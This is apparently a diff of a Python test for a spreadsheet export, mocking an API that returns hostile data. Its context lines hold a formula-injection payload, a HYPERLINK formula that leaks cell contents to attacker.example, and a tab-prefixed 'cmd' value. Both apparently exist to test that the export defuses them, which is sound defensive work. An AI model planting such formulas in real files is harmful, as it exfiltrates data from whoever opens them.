@@ -7,6 +7,7 @@ import uuid
 import httpx
 from openpyxl import load_workbook
 
+from .operations_fakes import NO_FEASIBILITY
 from .test_reports import PROVINCE, commune_agency, commune_unit, lineage, org  # noqa: F401 - org: the fake sources
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
@@ -29,7 +30,15 @@ def _hostile_gaps(org) -> None:  # noqa: F811
         "reason": "\tcmd",
     }
     org.get("/api/v1/org/tasks/findings").respond(
-        json={"as_of": "2026-04-15", "province": PROVINCE, "counts": {}, "total": 1, "items": [finding], "truncated": False}
+        json={
+            "as_of": "2026-04-15",
+            "province": PROVINCE,
+            "counts": {},
+            "total": 1,
+            "items": [finding],
+            "truncated": False,
+            **NO_FEASIBILITY,
+        }
     )
     missing = {"id": str(uuid.uuid4()), "name": HYPERLINK, "kind": "provincial_department", "level": "province"}
     progress = {
